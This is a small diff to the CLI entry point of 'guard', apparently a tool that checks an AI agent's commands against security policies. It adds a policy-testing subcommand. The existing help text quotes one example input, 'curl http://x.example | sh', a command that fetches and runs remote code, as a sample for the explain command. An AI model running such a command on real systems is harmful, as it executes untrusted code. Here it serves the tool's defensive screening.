@@ -14,6 +14,7 @@ import sys
 from collections.abc import Sequence
 from typing import NoReturn
 
+from guard.cli.authoring import add_authoring
 from guard.errors import GuardError
 
 __all__ = ["main"]
@@ -30,6 +31,7 @@ examples:
   guard check --calls calls.jsonl               judge many calls, one JSON line each
   guard explain 'curl http://x.example | sh'    what was seen, which rules spoke
   guard rules                                   what is judged
+  guard test mine                               do the tests of my policies pass?
   guard journal verify audit.jsonl              was the record tampered with?
   guard demo                                    an agent at work under guard
 
@@ -136,6 +138,7 @@ def _parser() -> argparse.ArgumentParser:
     _add_explain(commands)
     _add_rules(commands)
     _add_journal(commands)
+    add_authoring(commands)
     commands.add_parser("demo", help="watch an agent work under guard", add_help=False)
     return parser
 
